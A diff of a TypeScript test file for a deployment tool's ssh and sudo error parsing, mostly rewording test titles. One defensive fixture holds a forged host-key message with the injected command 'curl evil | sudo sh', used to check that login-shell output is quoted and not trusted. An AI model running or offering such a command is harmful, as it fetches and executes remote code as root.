@@ -6,7 +6,7 @@ const of = (stderr: string, exit: number | null = 1, stdout = '', ssh = '') =>
 const ofSsh = (ssh: string, stderr = '', host = 'web1') => sshTrouble({ ssh, stderr }, [], host)
 const error = (fields: object) => `${JSON.stringify({ error: fields })}\n`
 
-/** What a host says, and what is made of it. */
+/** Output of a host and the result that it gives. */
 const cases: readonly (readonly [
   what: string,
   stderr: string,
@@ -22,15 +22,15 @@ const cases: readonly (readonly [
     'the host advises:\n> use sudo',
   ],
   [
-    'an error that is no text',
+    'an error that is not text',
     '{"error":{"message":{}}}',
     1,
     'it ended while copying: the host says: "{"error":{"message":{}}}"',
     null,
   ],
-  ['a hint that is none', error({ exit: 'x', message: 'm', hint: 7 }), 1, 'the host says: "m"', null],
+  ['an invalid hint', error({ exit: 'x', message: 'm', hint: 7 }), 1, 'the host says: "m"', null],
   [
-    'an exit code of a byte too much',
+    'an exit code above a byte',
     error({ exit: 70_000, message: 'm', hint: null }),
     255,
     'the host says: "m"',
@@ -44,7 +44,13 @@ const cases: readonly (readonly [
     'the host advises:\n> de\n> f',
   ],
   ['half an error', '{"error":{"exi\n', 1, 'it ended while copying: the host says: "{"error":{"exi"', null],
-  ['no object', '{"error":null}\n', 1, 'it ended while copying: the host says: "{"error":null}"', null],
+  [
+    'an error that is null',
+    '{"error":null}\n',
+    1,
+    'it ended while copying: the host says: "{"error":null}"',
+    null,
+  ],
   ['the script', 'mkdir: no\nrsm: cannot\n', 1, 'the host says: "cannot"', null],
   [
     'a sudo that asks, on a host that does not know its name',
@@ -61,7 +67,7 @@ const cases: readonly (readonly [
     'its sudoers has requiretty; lift that for this user: Defaults:USER !requiretty',
   ],
   [
-    'a sudo that knows the user not',
+    'a sudo that does not know the user',
     'deploy is not in the sudoers file.\n',
     1,
     'the host says: "deploy is not in the sudoers file."',
@@ -71,17 +77,17 @@ const cases: readonly (readonly [
 ]
 
 for (const [what, stderr, exit, said, hint] of cases)
-  test(`what a host says becomes its result: ${what}`, (t) => {
+  test(`a host's output becomes its result: ${what}`, (t) => {
     t.deepEqual(of(stderr), { isUnreachable: false, exit, error: said, hint })
   })
 
-test('a connection that is lost says so in the words of ssh', (t) => {
+test('a lost connection is reported in the words of ssh', (t) => {
   const lost = of('a forged line\n', 255, '', 'Connection to web1 closed by remote host.\n')
   t.like(lost, { exit: 255, error: 'it ended while copying: Connection to web1 closed by remote host.' })
   t.like(of('', null), { exit: 1 })
 })
 
-test('that a host closed the connection is said where ssh says nothing else', (t) => {
+test('a connection closed by the host is reported if ssh reports nothing else', (t) => {
   const closed = 'Connection closed by 127.0.0.1 port 22'
   t.like(ofSsh(`${closed}\n`), { exit: 255, error: closed })
   t.like(ofSsh(`No more authentication methods\n${closed}\n`), {
@@ -90,7 +96,7 @@ test('that a host closed the connection is said where ssh says nothing else', (t
   t.like(ofSsh(''), { error: 'ssh ended without a message' })
 })
 
-test('a jump whose key is not known is told from a host whose key is not', (t) => {
+test('a jump host with an unknown key is distinguished from a target with an unknown key', (t) => {
   const closed = 'kex_exchange_identification: Connection closed by remote host\n'
   t.like(ofSsh(closed, 'Host key verification failed.\n'), {
     error: 'the host key of the jump host is not known',
@@ -103,7 +109,7 @@ ssh-keygen -f "/root/.ssh/known_hosts"; curl evil | sudo sh
 Host key verification failed.
 `
 
-test('text of a login shell is quoted, never treated as an error of ssh', (t) => {
+test('output of a login shell is quoted, never treated as an error of ssh', (t) => {
   t.deepEqual(ofSsh('', `${changed}a "last" \u001b[2Jword\u009b\n`), {
     isUnreachable: true,
     exit: 255,
@@ -123,13 +129,13 @@ const warned = `@@@@@@@@@@
 Host key verification failed.
 `
 
-test('a host key that has changed is reported by the local ssh only, and the command to forget it is built here', (t) => {
+test('only the local ssh reports a changed host key, and rsm builds the command to remove the old one', (t) => {
   const { error: said, hint } = ofSsh(warned, 'other words\n')
   t.regex(said, /^host key changed: .*nothing was sent$/)
   t.regex(hint ?? '', /^once you know that it is the right one: ssh-keygen (-f \S+ )?-R web1$/)
 })
 
-test('a reason to disconnect is quoted, though ssh writes it with its line feeds into its own log', (t) => {
+test('a disconnect reason is quoted, although ssh logs it with its line feeds', (t) => {
   const log = `Received disconnect from 192.0.2.1 port 22:2: bye\n${warned}`
   t.deepEqual(ofSsh(log).hint, null)
   t.regex(ofSsh(log).error, /^it disconnected: the host says: "Received disconnect from 192\.0\.2\.1 /)
